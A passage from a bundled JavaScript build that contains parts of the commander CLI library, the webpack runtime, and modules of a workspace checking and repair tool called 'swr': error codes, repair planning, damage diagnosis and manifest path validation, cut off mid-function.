 * implementation. We support separate dual options for separate positive and negative options,
 * like `--build` and `--no-build`, which share a single option value. This works nicely for some
 * use cases, but is tricky for others where we want separate behaviours despite
 * the single shared option value.
 */
class DualOptions {
  /**
   * @param {Option[]} options
   */
  constructor(options) {
    this.positiveOptions = new Map();
    this.negativeOptions = new Map();
    this.dualOptions = new Set();
    options.forEach((option) => {
      if (option.negate) {
        this.negativeOptions.set(option.attributeName(), option);
      } else {
        this.positiveOptions.set(option.attributeName(), option);
      }
    });
    this.negativeOptions.forEach((value, key) => {
      if (this.positiveOptions.has(key)) {
        this.dualOptions.add(key);
      }
    });
  }

  /**
   * Did the value come from the option, and not from possible matching dual option?
   *
   * @param {*} value
   * @param {Option} option
   * @returns {boolean}
   */
  valueFromOption(value, option) {
    const optionKey = option.attributeName();
    if (!this.dualOptions.has(optionKey)) return true;

    // Use the value to deduce if (probably) came from the option.
    const preset = this.negativeOptions.get(optionKey).presetArg;
    const negativeValue = preset !== undefined ? preset : false;
    return option.negate === (negativeValue === value);
  }
}

/**
 * Convert string from kebab-case to camelCase.
 *
 * @param {string} str
 * @return {string}
 * @private
 */

function camelcase(str) {
  return str.split('-').reduce((str, word) => {
    return str + word[0].toUpperCase() + word.slice(1);
  });
}

/**
 * Split the short and long flag out of something like '-m,--mixed <value>'
 *
 * @private
 */

function splitOptionFlags(flags) {
  let shortFlag;
  let longFlag;
  // short flag, single dash and single character
  const shortFlagExp = /^-[^-]$/;
  // long flag, double dash and at least one character
  const longFlagExp = /^--[^-]/;

  const flagParts = flags.split(/[ |,]+/).concat('guard');
  // Normal is short and/or long.
  if (shortFlagExp.test(flagParts[0])) shortFlag = flagParts.shift();
  if (longFlagExp.test(flagParts[0])) longFlag = flagParts.shift();
  // Long then short. Rarely used but fine.
  if (!shortFlag && shortFlagExp.test(flagParts[0]))
    shortFlag = flagParts.shift();
  // Allow two long flags, like '--ws, --workspace'
  // This is the supported way to have a shortish option flag.
  if (!shortFlag && longFlagExp.test(flagParts[0])) {
    shortFlag = longFlag;
    longFlag = flagParts.shift();
  }

  // Check for unprocessed flag. Fail noisily rather than silently ignore.
  if (flagParts[0].startsWith('-')) {
    const unsupportedFlag = flagParts[0];
    const baseError = `option creation failed due to '${unsupportedFlag}' in option flags '${flags}'`;
    if (/^-[^-][^-]/.test(unsupportedFlag))
      throw new Error(
        `${baseError}
- a short flag is a single dash and a single character
  - either use a single dash and a single character (for a short flag)
  - or use a double dash for a long option (and can have two, like '--ws, --workspace')`,
      );
    if (shortFlagExp.test(unsupportedFlag))
      throw new Error(`${baseError}
- too many short flags`);
    if (longFlagExp.test(unsupportedFlag))
      throw new Error(`${baseError}
- too many long flags`);

    throw new Error(`${baseError}
- unrecognised flag format`);
  }
  if (shortFlag === undefined && longFlag === undefined)
    throw new Error(
      `option creation failed due to no flags found in '${flags}'.`,
    );

  return { shortFlag, longFlag };
}

exports.Option = Option;
exports.DualOptions = DualOptions;


/***/ }),

/***/ 5030:
/***/ ((__unused_webpack_module, exports) => {

const maxDistance = 3;

function editDistance(a, b) {
  // https://en.wikipedia.org/wiki/Damerau–Levenshtein_distance
  // Calculating optimal string alignment distance, no substring is edited more than once.
  // (Simple implementation.)

  // Quick early exit, return worst case.
  if (Math.abs(a.length - b.length) > maxDistance)
    return Math.max(a.length, b.length);

  // distance between prefix substrings of a and b
  const d = [];

  // pure deletions turn a into empty string
  for (let i = 0; i <= a.length; i++) {
    d[i] = [i];
  }
  // pure insertions turn empty string into b
  for (let j = 0; j <= b.length; j++) {
    d[0][j] = j;
  }

  // fill matrix
  for (let j = 1; j <= b.length; j++) {
    for (let i = 1; i <= a.length; i++) {
      let cost = 1;
      if (a[i - 1] === b[j - 1]) {
        cost = 0;
      } else {
        cost = 1;
      }
      d[i][j] = Math.min(
        d[i - 1][j] + 1, // deletion
        d[i][j - 1] + 1, // insertion
        d[i - 1][j - 1] + cost, // substitution
      );
      // transposition
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
        d[i][j] = Math.min(d[i][j], d[i - 2][j - 2] + 1);
      }
    }
  }

  return d[a.length][b.length];
}

/**
 * Find close matches, restricted to same number of edits.
 *
 * @param {string} word
 * @param {string[]} candidates
 * @returns {string}
 */

function suggestSimilar(word, candidates) {
  if (!candidates || candidates.length === 0) return '';
  // remove possible duplicates
  candidates = Array.from(new Set(candidates));

  const searchingOptions = word.startsWith('--');
  if (searchingOptions) {
    word = word.slice(2);
    candidates = candidates.map((candidate) => candidate.slice(2));
  }

  let similar = [];
  let bestDistance = maxDistance;
  const minSimilarity = 0.4;
  candidates.forEach((candidate) => {
    if (candidate.length <= 1) return; // no one character guesses

    const distance = editDistance(word, candidate);
    const length = Math.max(word.length, candidate.length);
    const similarity = (length - distance) / length;
    if (similarity > minSimilarity) {
      if (distance < bestDistance) {
        // better edit distance, throw away previous worse matches
        bestDistance = distance;
        similar = [candidate];
      } else if (distance === bestDistance) {
        similar.push(candidate);
      }
    }
  });

  similar.sort((a, b) => a.localeCompare(b));
  if (searchingOptions) {
    similar = similar.map((candidate) => `--${candidate}`);
  }

  if (similar.length > 1) {
    return `\n(Did you mean one of ${similar.join(', ')}?)`;
  }
  if (similar.length === 1) {
    return `\n(Did you mean ${similar[0]}?)`;
  }
  return '';
}

exports.suggestSimilar = suggestSimilar;


/***/ })

/******/ });
/************************************************************************/
/******/ // The module cache
/******/ var __webpack_module_cache__ = {};
/******/ 
/******/ // The require function
/******/ function __nccwpck_require__(moduleId) {
/******/ 	// Check if module is in cache
/******/ 	var cachedModule = __webpack_module_cache__[moduleId];
/******/ 	if (cachedModule !== undefined) {
/******/ 		return cachedModule.exports;
/******/ 	}
/******/ 	// Create a new module (and put it into the cache)
/******/ 	var module = __webpack_module_cache__[moduleId] = {
/******/ 		// no module.id needed
/******/ 		// no module.loaded needed
/******/ 		exports: {}
/******/ 	};
/******/ 
/******/ 	// Execute the module function
/******/ 	var threw = true;
/******/ 	try {
/******/ 		__webpack_modules__[moduleId].call(module.exports, module, module.exports, __nccwpck_require__);
/******/ 		threw = false;
/******/ 	} finally {
/******/ 		if(threw) delete __webpack_module_cache__[moduleId];
/******/ 	}
/******/ 
/******/ 	// Return the exports of the module
/******/ 	return module.exports;
/******/ }
/******/ 
/******/ // expose the modules object (__webpack_modules__)
/******/ __nccwpck_require__.m = __webpack_modules__;
/******/ 
/************************************************************************/
/******/ /* webpack/runtime/asset-relocator-loader */
/******/ if (typeof __nccwpck_require__ !== 'undefined') __nccwpck_require__.ab = decodeURIComponent(new URL('.', import.meta.url).pathname).slice(import.meta.url.match(/^file:\/\/\/\w:/) ? 1 : 0, -1) + "/";
/******/ 
/******/ /* webpack/runtime/compat get default export */
/******/ (() => {
/******/ 	// getDefaultExport function for compatibility with non-harmony modules
/******/ 	__nccwpck_require__.n = (module) => {
/******/ 		var getter = module && module.__esModule ?
/******/ 			() => (module['default']) :
/******/ 			() => (module);
/******/ 		__nccwpck_require__.d(getter, { a: getter });
/******/ 		return getter;
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/create fake namespace object */
/******/ (() => {
/******/ 	var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
/******/ 	var leafPrototypes;
/******/ 	// create a fake namespace object
/******/ 	// mode & 1: value is a module id, require it
/******/ 	// mode & 2: merge all properties of value into the ns
/******/ 	// mode & 4: return value when already ns object
/******/ 	// mode & 16: return value when it's Promise-like
/******/ 	// mode & 8|1: behave like require
/******/ 	__nccwpck_require__.t = function(value, mode) {
/******/ 		if(mode & 1) value = this(value);
/******/ 		if(mode & 8) return value;
/******/ 		if(typeof value === 'object' && value) {
/******/ 			if((mode & 4) && value.__esModule) return value;
/******/ 			if((mode & 16) && typeof value.then === 'function') return value;
/******/ 		}
/******/ 		var ns = Object.create(null);
/******/ 		__nccwpck_require__.r(ns);
/******/ 		var def = {};
/******/ 		leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
/******/ 		for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
/******/ 			Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
/******/ 		}
/******/ 		def['default'] = () => (value);
/******/ 		__nccwpck_require__.d(ns, def);
/******/ 		return ns;
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/define property getters */
/******/ (() => {
/******/ 	// define getter functions for harmony exports
/******/ 	__nccwpck_require__.d = (exports, definition) => {
/******/ 		for(var key in definition) {
/******/ 			if(__nccwpck_require__.o(definition, key) && !__nccwpck_require__.o(exports, key)) {
/******/ 				Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
/******/ 			}
/******/ 		}
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/ensure chunk */
/******/ (() => {
/******/ 	__nccwpck_require__.f = {};
/******/ 	// This file contains only the entry chunk.
/******/ 	// The chunk loading function for additional chunks
/******/ 	__nccwpck_require__.e = (chunkId) => {
/******/ 		return Promise.all(Object.keys(__nccwpck_require__.f).reduce((promises, key) => {
/******/ 			__nccwpck_require__.f[key](chunkId, promises);
/******/ 			return promises;
/******/ 		}, []));
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/get javascript chunk filename */
/******/ (() => {
/******/ 	// This function allow to reference async chunks
/******/ 	__nccwpck_require__.u = (chunkId) => {
/******/ 		// return url for filenames based on template
/******/ 		return "" + chunkId + ".index.js";
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/hasOwnProperty shorthand */
/******/ (() => {
/******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
/******/ })();
/******/ 
/******/ /* webpack/runtime/make namespace object */
/******/ (() => {
/******/ 	// define __esModule on exports
/******/ 	__nccwpck_require__.r = (exports) => {
/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
/******/ 		}
/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/import chunk loading */
/******/ (() => {
/******/ 	// no baseURI
/******/ 	
/******/ 	// object to store loaded and loading chunks
/******/ 	// undefined = chunk not loaded, null = chunk preloaded/prefetched
/******/ 	// [resolve, Promise] = chunk loading, 0 = chunk loaded
/******/ 	var installedChunks = {
/******/ 		792: 0
/******/ 	};
/******/ 	
/******/ 	var installChunk = (data) => {
/******/ 		var {ids, modules, runtime} = data;
/******/ 		// add "modules" to the modules object,
/******/ 		// then flag all "ids" as loaded and fire callback
/******/ 		var moduleId, chunkId, i = 0;
/******/ 		for(moduleId in modules) {
/******/ 			if(__nccwpck_require__.o(modules, moduleId)) {
/******/ 				__nccwpck_require__.m[moduleId] = modules[moduleId];
/******/ 			}
/******/ 		}
/******/ 		if(runtime) runtime(__nccwpck_require__);
/******/ 		for(;i < ids.length; i++) {
/******/ 			chunkId = ids[i];
/******/ 			if(__nccwpck_require__.o(installedChunks, chunkId) && installedChunks[chunkId]) {
/******/ 				installedChunks[chunkId][0]();
/******/ 			}
/******/ 			installedChunks[ids[i]] = 0;
/******/ 		}
/******/ 	
/******/ 	}
/******/ 	
/******/ 	__nccwpck_require__.f.j = (chunkId, promises) => {
/******/ 			// import() chunk loading for javascript
/******/ 			var installedChunkData = __nccwpck_require__.o(installedChunks, chunkId) ? installedChunks[chunkId] : undefined;
/******/ 			if(installedChunkData !== 0) { // 0 means "already installed".
/******/ 	
/******/ 				// a Promise means "currently loading".
/******/ 				if(installedChunkData) {
/******/ 					promises.push(installedChunkData[1]);
/******/ 				} else {
/******/ 					if(true) { // all chunks have JS
/******/ 						// setup Promise in chunk cache
/******/ 						var promise = import("./" + __nccwpck_require__.u(chunkId)).then(installChunk, (e) => {
/******/ 							if(installedChunks[chunkId] !== 0) installedChunks[chunkId] = undefined;
/******/ 							throw e;
/******/ 						});
/******/ 						var promise = Promise.race([promise, new Promise((resolve) => (installedChunkData = installedChunks[chunkId] = [resolve]))])
/******/ 						promises.push(installedChunkData[1] = promise);
/******/ 					}
/******/ 				}
/******/ 			}
/******/ 	};
/******/ 	
/******/ 	// no prefetching
/******/ 	
/******/ 	// no preloaded
/******/ 	
/******/ 	// no external install chunk
/******/ 	
/******/ 	// no on chunks loaded
/******/ })();
/******/ 
/************************************************************************/
var __webpack_exports__ = {};

;// CONCATENATED MODULE: ./src/core/errors.ts
/**
 * Exit codes and the few error classes that carry them. Only the shells turn an error into an exit.
 */
const EXIT = {
    HEALTHY: 0,
    DAMAGED: 1,
    UNREPAIRABLE: 2,
    STILL_DAMAGED: 3,
    BAD_MANIFEST: 4,
    /** A bug in swr (sysexits EX_SOFTWARE): never 1 or 2, which mean something about the workspace. */
    INTERNAL: 70,
    /** A write failed (disk full, quota, I/O error): nothing was replaced (sysexits EX_IOERR). */
    WRITE_FAILED: 74,
    /** Another writer interfered: the lock was lost or the manifest changed underneath; nothing was written. */
    CONFLICT: 75,
    INTERRUPTED: 130
};
/** An error meant for the user: one line, a subject, and the exit status it maps to. */
class SwrError extends Error {
    exitCode;
    constructor(message, exitCode) {
        super(message);
        this.exitCode = exitCode;
        this.name = 'SwrError';
    }
}
/** The manifest is unreadable, malformed or inconsistent. `where` names the file, line or field. */
class ManifestError extends SwrError {
    problems;
    constructor(message, problems = [message]) {
        super(message, EXIT.BAD_MANIFEST);
        this.problems = problems;
        this.name = 'ManifestError';
    }
}
/** The command line asked for something that cannot be done. */
class UsageError extends SwrError {
    constructor(message) {
        super(message, EXIT.BAD_MANIFEST);
        this.name = 'UsageError';
    }
}
/** A bug: the shells print it with a request to report it. */
class InternalError extends Error {
    constructor(message) {
        super(message);
        this.name = 'InternalError';
    }
}
/** Errors of the disk rather than of swr or its input: a clear line and EXIT.WRITE_FAILED. */
const DISK_CODES = new Set(['ENOSPC', 'EDQUOT', 'EIO', 'EROFS', 'EFBIG']);
const DISK_WORDS = {
    ENOSPC: 'no space left on the device',
    EDQUOT: 'disk quota exceeded',
    EIO: 'input/output error',
    EROFS: 'read-only file system',
    EFBIG: 'file too large'
};
/** The error as a one-line SwrError when it is a disk error, else undefined. */
function diskError(err, file) {
    const code = errnoCode(err);
    if (!code || !DISK_CODES.has(code))
        return undefined;
    const p = err.path;
    const what = file ?? (typeof p === 'string' ? p : 'to the disk');
    return new SwrError(`cannot write ${what}: ${DISK_WORDS[code] ?? code} (${code})`, EXIT.WRITE_FAILED);
}
/** Node's fs errors carry a code; this reads it without `any`. */
function errnoCode(err) {
    if (typeof err === 'object' && err !== null && 'code' in err) {
        const code = err.code;
        return typeof code === 'string' ? code : undefined;
    }
    return undefined;
}

// EXTERNAL MODULE: ./node_modules/commander/index.js
var commander = __nccwpck_require__(8909);
;// CONCATENATED MODULE: ./node_modules/commander/esm.mjs


// wrapper to provide named exports for ESM.
const {
  /* program */ "DM": program,
  /* createCommand */ "gu": createCommand,
  /* createArgument */ "er": createArgument,
  /* createOption */ "Ww": createOption,
  /* CommanderError */ "b7": CommanderError,
  /* InvalidArgumentError */ "Di": InvalidArgumentError,
  /* InvalidOptionArgumentError */ "a2": InvalidOptionArgumentError, // deprecated old name
  /* Command */ "uB": Command,
  /* Argument */ "ef": Argument,
  /* Option */ "c$": Option,
  /* Help */ "_V": Help,
} = commander;

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __nccwpck_require__(3024);
var external_node_fs_default = /*#__PURE__*/__nccwpck_require__.n(external_node_fs_);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __nccwpck_require__(6760);
var external_node_path_default = /*#__PURE__*/__nccwpck_require__.n(external_node_path_);
;// CONCATENATED MODULE: ./src/core/types.ts
/**
 * The vocabulary of the engine: manifest entries, what a check finds, and what a diagnosis says.
 * Everything here is plain data so that the CLI, the Action and the reports share one shape.
 */
const KINDS = ['file', 'blob', 'tree', 'link'];
/** Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs. */
const TIERS = [0, 1, 2, 3, 4];
const TIER_NAMES = {
    0: 'credentials and shims',
    1: 'scripts',
    2: 'source trees',
    3: 'large downloads',
    4: 'build outputs'
};
/** An entry's restore sources as a list, whichever form the manifest used. */
function restoreSources(e) {
    if (e.restore === undefined)
        return [];
    return typeof e.restore === 'string' ? [e.restore] : e.restore;
}
/** The shell recipes among an entry's restore sources, in order. */
function recipesOf(e) {
    return restoreSources(e).filter((s) => typeof s === 'string');
}
const STATUSES = [
    'OK',
    'MISSING',
    'CORRUPT',
    'STRIPPED',
    'EMPTY',
    'BROKENLNK',
    'TYPE',
    'SKIPPED',
    /** The entry verifies but its smoke command failed (only with --run-smoke). */
    'SMOKEFAIL'
];
const WIPE_SIGNATURES = (/* unused pure expression or super */ null && ([
    'healthy',
    'cold-start',
    'permission-reset',
    'injection',
    'credential-loss',
    'exclusion-sweep',
    'size-cap-eviction',
    'partial-restore',
    'local-corruption',
    'mixed'
]));

;// CONCATENATED MODULE: ./src/core/plan.ts
/**
 * Planning a repair, purely: which damaged entries to restore, from which source, in what order.
 * Order is tier first (0 credentials/shims ... 4 build outputs), but a `needs` edge always wins:
 * an entry never runs before a damaged dependency, whatever the tiers. Healthy dependencies are
 * not re-run. Steps that share a tier and have no edges between them form one wave and may run in
 * parallel. No fs, no clock, no processes here.
 */

function planSteps(plan) {
    return plan.waves.flat();
}
/** The sources a restore of `e` tries, in order (escrow first, then the manifest's order). */
function sourcesOf(e) {
    const out = e.kind === 'file' && e.escrow ? ['escrow'] : [];
    for (const src of restoreSources(e))
        out.push(typeof src === 'string' ? 'recipe' : 'cache');
    return out;
}
/** Plan the repair of every damaged finding (status other than OK and SKIPPED). */
function planRepair(entries, findings) {
    const damaged = new Map(findings.filter(f => f.status !== 'OK' && f.status !== 'SKIPPED').map(f => [f.id, f]));
    const order = new Map(entries.map((e, i) => [e.id, i]));
    const todo = entries.filter(e => damaged.has(e.id));
    const after = new Map(todo.map(e => [e.id, e.needs.filter(n => damaged.has(n))]));
    const done = new Set();
    const waves = [];
    let remaining = todo;
    while (remaining.length > 0) {
        const ready = remaining.filter(e => (after.get(e.id) ?? []).every(n => done.has(n)));
        if (ready.length === 0) {
            // Validation refuses cycles before planning; reaching here is a bug, not a user error.
            throw new Error(`plan: no runnable step among ${remaining.map(e => e.id).join(', ')}`);
        }
        const tier = Math.min(...ready.map(e => e.tier));
        const wave = ready
            .filter(e => e.tier === tier)
            .sort((a, b) => (order.get(a.id) ?? 0) - (order.get(b.id) ?? 0))
            .map((e) => ({
            id: e.id,
            path: e.path,
            tier: e.tier,
            source: sourcesOf(e)[0] ?? 'none',
            sources: sourcesOf(e),
            after: after.get(e.id) ?? [],
            reason: `${damaged.get(e.id)?.status ?? 'DAMAGED'}: ${damaged.get(e.id)?.detail ?? ''}`
        }));
        for (const s of wave)
            done.add(s.id);
        waves.push(wave);
        remaining = remaining.filter(e => !done.has(e.id));
    }
    return { waves };
}

;// CONCATENATED MODULE: ./src/core/diagnose.ts
/**
 * From findings to a diagnosis: the wipe signature (what kind of event damaged the workspace) and,
 * for each damaged entry, a plain-language cause and the fix. The first rule that fits wins; the
 * rules are ordered from the most specific pattern to "mixed", and every status has a class.
 */


/** Directory names that runners, caches and sandboxes routinely drop or never keep. */
const VOLATILE_DIRS = new Set([
    '.cache',
    '.next',
    '.npm',
    '.nuxt',
    '.output',
    '.parcel-cache',
    '.pytest_cache',
    '.ruff_cache',
    '.mypy_cache',
    '.svelte-kit',
    '.tox',
    '.nox',
    '.turbo',
    '.venv',
    '.vite',
    '__pycache__',
    'build',
    'coverage',
    'dist',
    'node_modules',
    'out',
    'target'
]);
function isDamaged(f) {
    return f.status !== 'OK';
}
function underVolatileDir(p) {
    return p.split('/').some(seg => VOLATILE_DIRS.has(seg));
}
function damageOf(f) {
    switch (f.status) {
        case 'MISSING':
            // A parent replaced by a link that leads out is a change in place, not a loss.
            return f.reason === 'escapes' ? 'altered' : 'gone';
        case 'EMPTY':
        case 'BROKENLNK':
            return 'gone';
        case 'STRIPPED':
            return 'perm';
        case 'CORRUPT':
            return corruptDamage(f);
        default:
            return 'altered';
    }
}
function corruptDamage(f) {
    if (f.files)
        return treeDiffDamage(f.files);
    switch (f.reason) {
        case 'mode':
            return 'perm';
        case 'size':
            return Number(f.found.size) < Number(f.recorded.size) ? 'short' : 'altered';
        case 'sentinel':
            return 'gone';
        case 'count': {
            const want = Number(f.recorded.files ?? f.recorded.min_files);
            return Number(f.found.files) < want ? 'gone' : 'added';
        }
        default:
            return 'altered';
    }
}
function treeDiffDamage(d) {
    const { missing, extra, changed } = d.counts;
    if (changed === 0 && extra === 0 && missing > 0)
        return 'gone';
    if (changed === 0 && missing === 0 && extra > 0)
        return 'added';
    // The lists are cut for the report; a verdict about "every change" needs the whole list.
    const whole = d.changed.length === changed;
    if (missing === 0 && extra === 0 && whole && d.changed.every(c => /^mode [^,]*$/.test(c.what)))
        return 'perm';
    return 'altered';
}
/** Where a dangling link leads (workspace-relative), or undefined when it is not a dangling link. */
function danglingTarget(f) {
    if (f.status !== 'BROKENLNK' || typeof f.found.target !== 'string')
        return undefined;
    if (f.found.target.startsWith('/'))
        return undefined;
    const to = external_node_path_default().posix.normalize(external_node_path_default().posix.join(external_node_path_default().posix.dirname(f.path), f.found.target));
    return to.startsWith('../') || to === '..' ? undefined : to;
}
function within(p, dir) {
    return p === dir || p.startsWith(dir === '.' ? '' : `${dir}/`);
}
/**
 * Which damaged entries are consequences of another's damage, mapped to that root: an entry
 * inside another damaged entry's path, and a dangling link whose target lies in a damaged entry,
 * are what that entry's damage did; counting them again would make one event look like several.
 */
function consequences(findings) {
    const damaged = findings.filter(f => isDamaged(f) && f.status !== 'SKIPPED');
    const causedBy = (f, g) => {
        if (g === f)
            return false;
        if (f.path !== g.path && within(f.path, g.path))
            return true;
        const target = danglingTarget(f);
        return target !== undefined && within(target, g.path);
    };
    const out = new Map();
    for (const f of damaged) {
        const root = damaged.find(g => causedBy(f, g) && !causedBy(g, f));
        if (root)
            out.set(f.id, root);
    }
    // A root is followed to its own root, so every consequence names the first cause.
    for (const [id, root] of out) {
        let r = root;
        for (let hops = 0; out.has(r.id) && hops < damaged.length; hops++)
            r = out.get(r.id);
        out.set(id, r);
    }
    return out;
}
/** The damaged entries that are causes (SKIPPED entries, a failed dependency's, are not). */
function rootCauses(findings) {
    const caused = consequences(findings);
    return findings.filter(f => isDamaged(f) && f.status !== 'SKIPPED' && !caused.has(f.id));
}
/**
 * Classify the damage in `findings` (all entries of the check, damaged or not) from its root
 * causes. The first rule that fits wins; each rule is stated in the README's signature table.
 */
function wipeSignature(findings) {
    const roots = rootCauses(findings);
    if (roots.length === 0)
        return 'healthy';
    const damage = roots.map(f => ({ f, d: damageOf(f) }));
    const all = (pred) => damage.every(pred);
    const lost = (d) => d === 'gone' || d === 'short';
    const damagedCount = findings.filter(f => isDamaged(f) && f.status !== 'SKIPPED').length;
    if (findings.length >= 2 && damagedCount === findings.length && all(x => x.d === 'gone'))
        return 'cold-start';
    if (all(x => x.d === 'perm'))
        return 'permission-reset';
    if (all(x => x.d === 'added'))
        return 'injection';
    if (all(x => x.f.tier === 0))
        return 'credential-loss';
    if (all(x => lost(x.d) && underVolatileDir(danglingTarget(x.f) ?? x.f.path)))
        return 'exclusion-sweep';
    if (all(x => x.f.kind === 'blob' && lost(x.d)))
        return 'size-cap-eviction';
    // One or two lost files alone are as likely a local deletion; a restore that stopped part-way
    // shows as many losses, or as a tree that kept some of its files and not others.
    if (all(x => lost(x.d)) && (roots.length > 2 || roots.some(partOfTreeLost)))
        return 'partial-restore';
    if (roots.length <= 2 && all(x => x.d !== 'added'))
        return 'local-corruption';
    return 'mixed';
}
function partOfTreeLost(f) {
    return f.kind === 'tree' && f.status === 'CORRUPT' && damageOf(f) === 'gone';
}
const CAUSES = {
    healthy: 'Every entry verifies.',
    'cold-start': 'Everything is gone: a fresh runner or sandbox, or a snapshot that kept none of the workspace.',
    'permission-reset': 'Only permission bits changed: a restore, artifact or cache round trip (or a umask) that does not keep modes.',
    injection: 'Files were added to tracked trees and nothing was lost: an install, build step or restored cache wrote into them.',
    'credential-loss': 'Only tier-0 entries (credentials, PATH shims) are damaged: they live outside what the snapshot keeps.',
    'exclusion-sweep': 'Everything lost lived under a directory that snapshot or cache rules exclude (node_modules, build, .cache, ...).',
    'size-cap-eviction': 'Only large blobs are gone or cut short: a size cap evicted or truncated them while smaller files survived.',
    'partial-restore': 'Files are missing or cut short while the rest survived and nothing was altered: a restore or copy that stopped part-way (a truncated cache archive, an interrupted download).',
    'local-corruption': 'One or two entries damaged while the rest survived: a local edit or deletion, bit rot, or a different build of the same files.',
    mixed: 'Several kinds of damage at once: more than one event, or a snapshot that kept an arbitrary subset.'
};
/**
 * The diagnosis of a check. With the manifest's entries, each fix names only what can work: the
 * restore command when the entry has a way back (escrow, a cache source or a recipe), the root's
 * restore for a consequence, and otherwise how to give the entry a way back.
 */
function diagnose(findings, command = 'swr restore', entries) {
    const signature = wipeSignature(findings);
    const byId = entries ? new Map(entries.map(e => [e.id, e])) : undefined;
    const caused = consequences(findings);
    return {
        signature,
        cause: CAUSES[signature],
        advice: findings.filter(isDamaged).map(f => {
            const root = caused.get(f.id);
            const ways = (id) => (byId ? waysOf(byId.get(id)) : 'unknown');
            const own = adviceFor(f, command, ways(f.id));
            if (!root)
                return own;
            const rootFix = adviceFor(root, command, ways(root.id)).fix;
            return {
                ...own,
                because: root.id,
                cause: `because ${root.path} is ${root.status}: ${own.cause}`,
                fix: `repairing ${root.id} repairs this too: ${rootFix}`
            };
        })
    };
}
function waysOf(e) {
    return e && sourcesOf(e).length > 0 ? 'some' : 'none';
}
const ESCROW_HINT_BYTES = 256 * 1024;
/** How to give an entry a way back, for a fix line that would otherwise send the user to a dead end. */
function noWayBack(f) {
    const escrow = f.kind === 'file' && Number(f.recorded.size) <= ESCROW_HINT_BYTES
        ? `, or once it is healthy again embed its bytes with swr escrow --only ${f.id}`
        : '';
    return `no way back is recorded for ${f.id}: restore it by hand, then give the entry a "restore" recipe or a {"cache": ...} source in the manifest and sign it (swr sign)${escrow}`;
}
/** Cause and fix for one damaged entry. */
function adviceFor(f, command = 'swr restore', ways = 'unknown') {
    const restore = ways === 'none' ? noWayBack(f) : `${command} --only ${f.id}`;
    const volatile = underVolatileDir(f.path)
        ? ` ${f.path} is under a directory that caches and snapshots often exclude.`
        : '';
    const chmod = (mode) => ways === 'none'
        ? `chmod ${String(mode)} ${f.path}`
        : `chmod ${String(mode)} ${f.path}  (or ${restore})`;
    const byStatus = {
        OK: ['', ''],
        MISSING: [
            f.reason === 'escapes'
                ? `a parent directory of ${f.path} now leads outside the workspace (replaced by a symlink?); it was not followed.`
                : `${f.path} is gone.${volatile}`,
            restore
        ],
        EMPTY: [
            `the directory ${f.path} survived but its files did not (a snapshot that keeps directories, not contents).${volatile}`,
            restore
        ],
        STRIPPED: [
            `exec bits were lost: a restore, artifact or archive step that does not keep modes.`,
            f.kind === 'tree' ? restore : chmod(f.recorded.mode ?? '+x')
        ],
        BROKENLNK: [`the link ${f.path} points at something that is no longer there.`, restore],
        TYPE: [
            `${f.path} changed kind (${String(f.recorded.type)} -> ${String(f.found.type)}): a restore that follows or flattens links, or a path reused.`,
            restore
        ],
        SKIPPED: [
            'a dependency failed to restore, so this entry was not attempted.',
            `fix the dependency first, then ${restore}`
        ],
        CORRUPT: [
            corruptCause(f),
            f.reason === 'mode' && f.recorded.mode !== undefined ? chmod(f.recorded.mode) : restore
        ],
        SMOKEFAIL: [
            `the files verify but the smoke command fails: a missing runtime dependency (shared library, interpreter, credential) outside what the manifest tracks.`,
            `run the smoke command by hand to see why, then ${restore}`
        ]
    };
    const [cause, fix] = byStatus[f.status];
    return {
        id: f.id,
        status: f.status,
        cause,
        fix,
        ...(ways === 'unknown' ? {} : { restorable: ways === 'some' })
    };
}
function corruptCause(f) {
    switch (f.reason) {
        case 'size':
            return Number(f.found.size) < Number(f.recorded.size)
                ? 'the file is shorter than recorded: an interrupted download, a partial cache restore or a size cap.'
                : 'the file is longer than recorded: appended to, or replaced by a different version.';
        case 'content':
        case 'headtail':
            return 'the bytes changed at the same size: a local edit, bit rot, or a different build of the same file.';
        case 'sentinel':
            return 'a sentinel file is missing or empty: the tree was gutted while the directory survived.';
        case 'files':
            return 'files inside the tree were added, removed or changed since it was recorded.';
        case 'count':
            return 'the tree holds a different number of files than recorded.';
        case 'mode':
            return 'permission bits changed (not an exec-bit loss): a umask or restore that rewrites modes.';
        case 'target':
            return 'the link was retargeted.';
        default:
            return 'the entry no longer matches what was recorded.';
    }
}

;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
/**
 * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
 * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
 */

const ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
const MAX_PATH = 4096;
/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
function pathProblem(p) {
    if (p === '.')
        return undefined;
    if (p.length === 0)
        return 'is empty';
    if (p.length > MAX_PATH)
        return `is longer than ${MAX_PATH} characters`;
    if (p.includes('\0'))
        return 'contains a NUL byte';
    if (!p.isWellFormed() || p.normalize('NFC') !== p)
        return 'is not NFC-normalised Unicode';
    if (p.startsWith('/'))
        return 'is absolute; manifest paths are relative to the workspace';
    for (const seg of p.split('/')) {
        if (seg === '')
            return 'has an empty segment (double or trailing slash)';
        if (seg === '..')
            return 'escapes the workspace with ".."';
        if (seg === '.')
